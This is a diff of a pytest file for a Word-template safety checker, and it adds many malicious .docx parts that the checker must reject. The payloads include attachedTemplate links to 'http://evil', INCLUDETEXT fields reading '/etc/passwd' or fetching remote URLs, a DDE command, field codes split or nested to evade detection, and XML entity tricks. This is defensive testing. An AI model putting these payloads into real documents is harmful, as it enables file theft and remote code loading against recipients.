@@ -12,7 +12,15 @@ import pytest
 
 from mediation.cases.documents import acceptance
 from mediation.records import documents
-from mediation.records.errors import WordNotAllowed, WordUnknown, WordUnreadable, WordUnsafe, WrongType
+from mediation.records.errors import (
+    Broken,
+    FileTooLarge,
+    WordNotAllowed,
+    WordUnknown,
+    WordUnreadable,
+    WordUnsafe,
+    WrongType,
+)
 from mediation.records.rules.word_templates import check_word
 from mediation.records.service.templates import word_fields, word_starter
 from tests.factories.paper_samples import SAMPLES
@@ -21,6 +29,8 @@ from tests.unit.paper.conftest import without_space
 from tests.unit.paper.test_word import read
 
 KIND = "acceptance"
+PAGE = "<w:r><w:instrText> PAGE </w:instrText></w:r>"
+W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
 
 
 def word(*paragraphs: str, head: str = "") -> bytes:
@@ -44,6 +54,22 @@ def with_part(name: str, content: bytes) -> bytes:
                 again.writestr(part.filename, packed.read(part))
         again.writestr(name, content)
     return held.getvalue()
+
+
+def outside(kind: str, target: str, *, prefix: str = "", mode: str = "External") -> bytes:
+    """Relationships of one part that name this target."""
+    package = "http://schemas.openxmlformats.org/package/2006/relationships"
+    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    named = f"xmlns:{prefix.rstrip(':')}" if prefix else "xmlns"
+    inner = f'<{prefix}Relationship Id="r1" Type="{office}/{kind}" Target="{target}" TargetMode="{mode}"/>'
+    return f'<{prefix}Relationships {named}="{package}">{inner}</{prefix}Relationships>'.encode()
+
+
+def field(*code: str) -> bytes:
+    """A field of Word whose code is split over these runs; what is markup stays so."""
+    runs = "".join(one if one.startswith("<") else f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in code)
+    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
+    return f'<w:p xmlns:w="{W}">{begin}{runs}{end}</w:p>'.encode()
 
 
 def filled(content: bytes, kind: str = KIND) -> bytes:
@@ -144,20 +170,45 @@ def test_a_long_loop_is_stopped() -> None:
         lambda: with_part("word/embeddings/x.xlsx", b"PK"),
         lambda: with_part(
             "word/_rels/settings.xml.rels",
-            b"<Relationships><Relationship Id='r1' Type='x/attachedTemplate' Target='http://evil/x.dotm'"
-            b" TargetMode='External'/></Relationships>",
+            outside("attachedTemplate", "http://evil/x.dotm"),
         ),
         lambda: with_part("word/extra.xml", b"<!DOCTYPE x [<!ENTITY y 'z'>]><x>&y;</x>"),
-        lambda: with_part("word/footer9.xml", b"<w:instrText> INCLUDETEXT file:///etc/passwd </w:instrText>"),
+        lambda: with_part("word/footer9.xml", field(" INCLUDETEXT file:///etc/passwd ")),
+        lambda: with_part("word/footer9.xml", field(" inclu", 'detext "http://evil/x" ')),
+        lambda: with_part("word/footer9.xml", field(' = 1 + <w:fldSimple w:instr="DDE cmd"/> ')),
+        lambda: with_part("word/footer9.xml", field(" INCLUDE", field(' QUOTE "" ').decode(), "TEXT http://evil/x ")),
+        lambda: with_part("word/footer9.xml", field(field(' QUOTE "INCLUDETEXT http://evil" ').decode(), " DATE ")),
+        lambda: with_part("word/footer9.xml", field(PAGE.replace("w:r>", "w:del>"), " INCLUDETEXT http://evil ")),
+        lambda: with_part("word/footer9.xml", field(f'<x:a xmlns:x="urn:x">{PAGE}</x:a>', " INCLUDETEXT http://evil ")),
+        lambda: with_part("word/footer9.xml", field(f"<w:p>{PAGE}</w:p>", " INCLUDETEXT http://evil ")),
+        lambda: with_part(
+            "word/footer9.xml", b'<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="https://evil/x.png"/>'
+        ),
+        lambda: with_part("word/_rels/footer9.xml.rels", outside("attachedTemplate", "https://evil/hyperlink")),
+        lambda: with_part("word/_RELS/footer9.xml.RELS", outside("image", "https://evil/x.png", prefix="p:")),
+        lambda: with_part(
+            "word/_rels/footer9.xml.rels", outside("image", "https://evil/x.png").decode().encode("utf-16")
+        ),
+        lambda: with_part("word/_rels/footer9.xml.rels", outside("aFChunk", "x.html", mode="Internal")),
+        lambda: with_part("word/footer9.dat", field(" LINK Excel.Sheet ")),  # the list of types may call it XML
+        lambda: with_part("word/footer9.xml", '<!DOCTYPE x [<!ENTITY y "z">]><x>&y;</x>'.encode("utf-16")),
+        lambda: with_part("word/footer9.xml", b"<w:unfinished"),
         lambda: with_part("word/large.xml", b"<a>" + b"0123456789abcdef" * 300_000 + b"</a>"),
     ],
 )
 def test_what_reaches_outside_or_carries_something_is_refused(content: Callable[[], bytes]) -> None:
-    with pytest.raises((WordUnsafe, Exception), match=r"Word样板|没有保存"):
+    with pytest.raises((WordUnsafe, Broken, FileTooLarge), match="没有保存"):
         check_word("样板.docx", content())
 
 
 def test_an_ordinary_word_file_passes_and_others_do_not() -> None:
     assert check_word("C:\\样板 一.docx", word("{{ 单位 }}")) == "样板 一.docx"
+    assert check_word("样板.docx", word_starter(KIND)) == "样板.docx"  # with numbers of pages
+    for name, content in (
+        ("word/_rels/footer9.xml.rels", outside("hyperlink", "https://12348.example/")),
+        ("word/footer9.xml", field(" NUM", "PAGES ")),
+        ("word/media/logo.png", b"\x89PNG\r\n\x1a\n"),
+    ):
+        assert check_word("样板.docx", with_part(name, content)) == "样板.docx"
     with pytest.raises(WrongType):
         check_word("样板.pdf", b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF")
